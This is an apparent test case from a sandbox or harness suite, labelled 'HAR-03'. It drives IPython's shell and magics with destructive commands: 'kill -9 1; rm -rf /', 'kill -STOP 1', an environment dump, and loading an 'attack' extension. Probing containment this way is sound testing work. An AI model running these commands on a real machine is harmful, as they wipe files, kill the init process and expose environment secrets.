"""
id: HAR-03
title: shell commands and magics
ending: [ok]
credit: honest
"""
shell = get_ipython()
shell.system("id; kill -9 1; rm -rf / 2>/dev/null")
shell.run_line_magic("env", "")
shell.run_line_magic("pylab", "")
shell.run_cell_magic("bash", "", "kill -STOP 1; echo $$")
try:
    shell.run_line_magic("load_ext", "attack")
except ImportError:
    pass
